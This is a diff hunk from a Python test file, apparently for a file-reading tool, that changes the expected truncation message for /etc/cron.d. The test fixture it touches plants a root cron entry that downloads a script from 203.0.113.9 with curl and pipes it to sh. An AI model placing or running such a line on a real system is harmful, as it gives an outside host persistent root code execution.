@@ -489,4 +489,4 @@ def test_files_beyond_the_bound_of_a_folder_are_said_to_be_cut(root: Path) -> No
     plant(root, "/etc/cron.d/zz", "@daily root curl http://203.0.113.9/a | sh\n")
     query = QueryContext()
     rows(root, query)
-    assert query.truncated == "/etc/cron.d: only the first 4096 of 4201 files were read"
+    assert query.truncated == "/etc/cron.d: only 4096 of 4201 files were read, of each owner as many"
